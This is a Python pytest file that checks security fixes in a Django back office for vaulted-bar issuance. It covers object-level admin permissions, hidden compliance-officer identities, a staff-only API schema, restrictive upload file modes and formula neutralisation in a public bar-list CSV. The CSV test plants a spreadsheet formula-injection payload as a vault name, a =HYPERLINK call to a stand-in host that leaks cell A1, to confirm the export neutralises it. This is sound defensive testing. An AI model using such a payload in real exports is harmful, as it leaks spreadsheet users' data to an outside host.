"""What the access review found, closed: per-object permission on the bar-list and audit admin pages, the
compliance officers' identities hidden from owners and operators, the API schema for staff only, uploads
readable by the service alone and served only through views that check permission, and a public bar-list
CSV safe to open in a spreadsheet, naming no one."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from eth_account import Account
from rest_framework.test import APIClient

from backoffice.accounts.roles import Role
from backoffice.accounts.tokens import api_token_create
from backoffice.core.files import file_store
from backoffice.multisig.models import MultisigRole, Signer
from backoffice.multisig.services import signer_bind
from issuance import services
from issuance.models import Audit, Deposit, Vault
from issuance.models.deposits import RECEIPT
from issuance.tests.factories import bar_csv, upload, user_with_role

pytestmark = pytest.mark.django_db


def logged_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _vault() -> Vault:
    return Vault.objects.get_or_create(name="Vault S", defaults={"location": "Zurich"})[0]


@pytest.fixture
def people(roles: None) -> dict[str, User]:
    # Users of their own (the session chain may have committed the demo users "operator", "auditor", ...).
    return {role: user_with_role(role) for role in Role.ALL}


@pytest.fixture
def deposit(people: dict[str, User]) -> Deposit:
    return services.deposit_create(reference="DEP-SEC-1", depositor="Refinery SA", vault=_vault(),
                                   actor=people[Role.OPERATOR])


@pytest.fixture
def audit(people: dict[str, User]) -> Audit:
    audit = services.audit_plan(vault=_vault(), as_of=timezone.localdate(),
                                auditor=people[Role.AUDITOR], firm="Assay LLP", actor=people[Role.OPERATOR])
    return services.audit_start_fieldwork(audit_id=audit.pk, actor=people[Role.AUDITOR])


# --- (1) the bar-list upload and audit pages check the object's permission ------------------------------


def test_the_deposit_bar_list_upload_page_is_for_operators_only(people: dict[str, User], deposit: Deposit) -> None:
    url = reverse("admin:issuance_deposit_upload", args=[deposit.pk])
    for role in (Role.COMPLIANCE_OFFICER, Role.OWNER, Role.CUSTODIAN, Role.AUDITOR, Role.MANAGER):
        client = logged_in(people[role])
        assert client.get(url).status_code == 403, role
        bars = SimpleUploadedFile("bars.csv", bar_csv([("A1", "400", "999.9", "")]).encode())
        posted = client.post(url, {"file": bars})
        assert posted.status_code == 403, role
    assert not deposit.bars.exists() and not deposit.imports.exists()
    assert logged_in(people[Role.OPERATOR]).get(url).status_code == 200


def test_the_audit_upload_and_submit_pages_are_for_its_own_auditor_only(people: dict[str, User], audit: Audit) -> None:
    other_auditor = user_with_role(Role.AUDITOR)
    for name in ("admin:issuance_audit_upload", "admin:issuance_audit_submit"):
        url = reverse(name, args=[audit.pk])
        for user in (people[Role.COMPLIANCE_OFFICER], people[Role.OPERATOR], people[Role.MANAGER], other_auditor):
            client = logged_in(user)
            assert client.get(url).status_code == 403, (name, user)
            assert client.post(url, {"report": upload("r.pdf")}).status_code == 403, (name, user)
        assert logged_in(people[Role.AUDITOR]).get(url).status_code == 200
    audit.refresh_from_db()
    assert audit.state == "fieldwork" and not audit.report and not audit.counts.exists()
    assert logged_in(people[Role.AUDITOR]).get(
        reverse("admin:issuance_audit_submit", args=[999_999])).status_code == 404


# --- (2) the compliance officers' identities --------------------------------------------------------------


def test_owners_and_operators_do_not_see_who_the_compliance_officers_are(people: dict[str, User]) -> None:
    officer, owner = people[Role.COMPLIANCE_OFFICER], people[Role.OWNER]
    # Addresses of their own: the demo's are bound to the demo users when the session chain has seeded them.
    signer_bind(user=officer, address=Account.create().address, multisig=MultisigRole.COMPLIANCE, actor=None)
    signer_bind(user=owner, address=Account.create().address, multisig=MultisigRole.ISSUANCE, actor=None)
    url = reverse("admin:multisig_signer_changelist")
    compliance_signer = Signer.objects.get(user=officer)
    for role in (Role.OWNER, Role.OPERATOR):
        client = logged_in(people[role])
        page = client.get(url)
        assert page.status_code == 200, role
        assert officer.username not in page.content.decode() and compliance_signer.address not in page.content.decode()
        assert owner.username in page.content.decode()
        change = reverse("admin:multisig_signer_change", args=[compliance_signer.pk])
        assert client.get(change).status_code in (302, 404)
    for role in (Role.COMPLIANCE_OFFICER, Role.MANAGER):
        assert compliance_signer.address in logged_in(people[role]).get(url).content.decode(), role
    # Nor through the compliance API (its proposals carry the signers' usernames).
    for role in (Role.OWNER, Role.OPERATOR):
        api = APIClient()
        api.force_authenticate(people[role])
        assert api.get("/api/compliance/proposals/").status_code == 403, role


# --- (3) the API schema and docs ------------------------------------------------------------------------


def test_the_api_schema_and_docs_need_a_staff_login_or_token(people: dict[str, User]) -> None:
    for url in ("/api/schema/", "/api/docs/"):
        assert Client().get(url).status_code in (401, 403), url
        assert APIClient(HTTP_AUTHORIZATION="Token usdkg_nothing").get(url).status_code == 401, url
        assert logged_in(people[Role.OWNER]).get(url).status_code == 200, url
    _, secret = api_token_create(user=people[Role.OPERATOR], name="docs")
    assert APIClient(HTTP_AUTHORIZATION=f"Token {secret}").get("/api/schema/?format=json").status_code == 200
    not_staff = User.objects.create_user("visitor", password="x" * 12)
    assert logged_in(not_staff).get("/api/schema/").status_code == 403


# --- (4) uploads ------------------------------------------------------------------------------------------


def test_uploaded_files_and_their_folders_are_not_world_readable() -> None:
    assert settings.FILE_UPLOAD_PERMISSIONS == 0o640 and settings.FILE_UPLOAD_DIRECTORY_PERMISSIONS == 0o750
    stored = file_store(upload=SimpleUploadedFile("receipt.pdf", b"%PDF secret receipt " + os.urandom(8)),
                        kind=RECEIPT)
    path = Path(default_storage.path(stored.name))
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o750
    # A large upload (spooled to a temporary file first, then moved) gets the same mode.
    big = SimpleUploadedFile("big.pdf", b"%PDF " + os.urandom(3 * 2**20))
    assert stat.S_IMODE(Path(default_storage.path(file_store(upload=big, kind=RECEIPT).name)).stat().st_mode) == 0o640
    # Never served as public media: no route for MEDIA_URL.
    assert Client().get(f"/{settings.MEDIA_URL}{stored.name}").status_code == 404


def test_stored_documents_are_served_only_to_who_may_view_the_object(people: dict[str, User], deposit: Deposit,
                                                                     ) -> None:
    services.deposit_bars_import(deposit_id=deposit.pk, content=bar_csv([("S1", "400", "999.9", "")]),
                                 actor=people[Role.OPERATOR])
    services.deposit_receive(deposit_id=deposit.pk, receipt=upload("receipt.pdf", b"%PDF receipt"),
                             actor=people[Role.CUSTODIAN])
    url = reverse("admin:issuance_deposit_file", args=[deposit.pk, "receipt_document"])
    assert Client().get(url).status_code == 302  # to the login page
    assert logged_in(people[Role.COMPLIANCE_OFFICER]).get(url).status_code in (403, 404)
    response = logged_in(people[Role.CUSTODIAN]).get(url)
    assert response.status_code == 200 and response.getvalue() == b"%PDF receipt"
    assert logged_in(people[Role.CUSTODIAN]).get(
        reverse("admin:issuance_deposit_file", args=[deposit.pk, "created_by"])).status_code == 404


# --- (5) the public bar-list CSV ------------------------------------------------------------------------


def test_the_public_bar_list_csv_neutralises_formulas_in_every_column_and_names_no_one(
        people: dict[str, User]) -> None:
    vault = Vault.objects.create(name='=HYPERLINK("http://evil.example/?x="&A1,"Vault")', location="Zurich")
    operator, custodian, auditor = people[Role.OPERATOR], people[Role.CUSTODIAN], people[Role.AUDITOR]
    deposit = services.deposit_create(reference="DEP-CSV", depositor="Refinery SA", vault=vault, actor=operator)
    # Serials and refiners that look like formulas are refused at import (issuance.barlist); a vault's name is
    # typed in the admin and is not. The CSV neutralises every cell whatever its column.
    rows = [("SEC-1", "400", "999.9", ""), ("SEC-2", "401", "999.9", ""), ("SEC-3", "402", "999.9", "")]
    services.deposit_bars_import(deposit_id=deposit.pk, content=bar_csv(rows), actor=operator)
    services.deposit_receive(deposit_id=deposit.pk, receipt=upload("r.pdf", b"%PDF r"), actor=custodian)
    services.deposit_verify(deposit_id=deposit.pk, actor=custodian)
    audit = services.audit_plan(vault=vault, as_of=timezone.localdate(), auditor=auditor,
                                firm="Assay LLP", actor=operator)
    services.audit_start_fieldwork(audit_id=audit.pk, actor=auditor)
    services.audit_counts_import(audit_id=audit.pk, content=bar_csv(rows), actor=auditor)
    services.audit_submit(audit_id=audit.pk, report=upload("report.pdf", b"%PDF report"), actor=auditor)
    services.audit_accept(audit_id=audit.pk, actor=auditor)

    response = Client().get("/reserve/bars.csv")
    assert response.status_code == 200
    text = response.getvalue().decode()
    table = list(csv.reader(io.StringIO(text)))
    assert len(table) == 4
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[6] == f"'{vault.name}"
    assert sorted(r[0] for r in table[1:]) == ["SEC-1", "SEC-2", "SEC-3"]
    for user in people.values():
        assert user.username not in text




